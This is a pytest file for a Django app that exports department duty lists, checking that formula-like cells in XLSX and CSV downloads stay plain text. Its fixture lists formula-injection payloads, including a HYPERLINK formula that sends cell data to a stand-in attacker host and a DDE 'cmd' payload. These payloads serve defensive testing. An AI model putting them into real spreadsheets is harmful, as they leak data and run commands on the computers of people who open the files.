"""Text that looks like a spreadsheet formula stays text in every XLSX and CSV qingdan hands out."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from qingdan.catalog.services import import_list
from qingdan.cells import csv_cell, csv_unescape
from qingdan.core.models import Department
from qingdan.ingest import load_bytes

pytestmark = pytest.mark.django_db

# what an attacker (or an unlucky list) puts in a cell: each is a formula to Excel, WPS or LibreOffice
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def poisoned(seed_bytes) -> Department:
    """湘阴县科技局 with formulas in a task, its note, a unit's name and a service."""
    record = load_bytes(*seed_bytes("002")).record
    task = record.duties[0].tasks[0]
    task.text, task.note = FORMULAS[0], FORMULAS[1]
    record.duties[1].tasks[0].text = FORMULAS[2]
    record.duties[2].tasks[0].text = FORMULAS[3]
    record.duties[3].text = "=1+1" + record.duties[3].text  # a duty merged over its tasks
    record.services[0].content = "@" + record.services[0].content
    for duty in record.duties:  # a finding quotes it: 「县场」应为「市场」
        duty.text = duty.text.replace("负责全县技术县场体系", "=负责全县技术县场体系")
    import_list(record)
    return Department.objects.get(name="湘阴县科技局")


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(data: bytes) -> list[str]:
    cells = _cells(data)
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells if isinstance(c.value, str)]


def test_it_writes_a_list_download_xlsx_with_no_formula_and_the_text_unchanged(client, poisoned):
    texts = _no_formula(client.get(f"/d/{poisoned.pk}/download.xlsx").content)
    for formula in FORMULAS[:4]:
        assert formula in texts
    assert any(t.startswith("=1+1") for t in texts)


def test_it_marks_formula_like_cells_as_text_for_excel(client, poisoned):
    cells = _cells(client.get(f"/d/{poisoned.pk}/download.xlsx").content)
    marked = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert marked and all(c.quotePrefix for c in marked)


def test_it_writes_the_registry_xlsx_with_no_formula(client, poisoned):
    texts = _no_formula(client.get("/-/download/registry.xlsx").content)
    assert FORMULAS[0] in texts and FORMULAS[2] in texts


def test_it_writes_the_checks_xlsx_with_no_formula(client, poisoned):
    from qingdan.core.outbox import settle

    settle()  # the findings are computed in the background after publication
    texts = _no_formula(client.get(f"/d/{poisoned.pk}/check.xlsx").content)
    assert any(t.startswith("=") and "县场体系" in t for t in texts)


def _csv(data: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]


@pytest.mark.parametrize("address", ["/d/{pk}/download.csv", "/-/download/registry.csv"])
def test_it_puts_a_quote_before_formula_like_csv_cells(client, poisoned, address):
    values = _csv(client.get(address.format(pk=poisoned.pk)).content)
    assert "'" + FORMULAS[0] in values and "'" + FORMULAS[2] in values and "'" + FORMULAS[3] in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_its_own_download_imports_back_with_the_text_unchanged(client, poisoned, fmt):
    again = load_bytes(f"download.{fmt}", client.get(f"/d/{poisoned.pk}/download.{fmt}").content).record
    assert again.duties[0].tasks[0].text == FORMULAS[0]
    assert again.duties[0].tasks[0].note == FORMULAS[1]
    assert again.duties[1].tasks[0].text == FORMULAS[2]
    assert again.duties[3].text.startswith("=1+1")


@pytest.mark.parametrize("text", [*FORMULAS, "'=already quoted", "电话 2269700", "", "- 无"])
def test_the_csv_escape_reads_back_to_what_was_written(text):
    assert csv_unescape(csv_cell(text)) == text


def test_a_quote_someone_wrote_before_ordinary_text_is_kept():
    assert csv_unescape("'湘阴") == "'湘阴"
